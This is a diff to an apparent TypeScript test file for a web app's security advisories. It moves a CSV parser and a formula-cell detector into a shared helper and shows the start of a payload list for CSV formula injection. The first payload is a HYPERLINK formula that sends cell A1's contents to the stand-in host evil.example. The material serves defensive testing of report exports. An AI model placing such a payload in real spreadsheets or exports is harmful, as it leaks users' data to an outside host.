@@ -23,6 +23,7 @@ import { toCsv } from "@/server/reports/report-table";
 import type { SessionUser } from "@/server/users/session-user";
 import { callerFor, createCategory, createOrganization, createUser } from "../support/factories";
 import { endRequestSessions, presentSessionOf, routeParams, routeStorageRoot } from "../support/request-session";
+import { formulaCells, parseCsv } from "../support/parse-csv";
 import { useTestDatabase } from "../support/test-db";
 
 vi.mock("@/server/auth/index", async () => (await import("../support/request-session")).authModule());
@@ -103,37 +104,6 @@ describe("advisory: SVG/HTML upload served inline", async () => {
     },
   );
 });
-
-/** RFC 4180 parsing (quoted cells may hold commas, quotes and line breaks), to read the export as a spreadsheet would. */
-function parseCsv(csv: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = "";
-  let quoted = false;
-  for (let i = 0; i < csv.length; i++) {
-    const c = csv[i];
-    if (quoted && c === '"' && csv[i + 1] === '"') {
-      cell += '"';
-      i++;
-    } else if (c === '"') {
-      quoted = !quoted;
-    } else if (!quoted && c === ",") {
-      row.push(cell);
-      cell = "";
-    } else if (!quoted && c === "\r" && csv[i + 1] === "\n") {
-      rows.push([...row, cell]);
-      row = [];
-      cell = "";
-      i++;
-    } else {
-      cell += c;
-    }
-  }
-  return rows;
-}
-
-/** Cells a spreadsheet would run as a formula. */
-const formulaCells = (csv: string) => parseCsv(csv).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
 
 const payloads = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
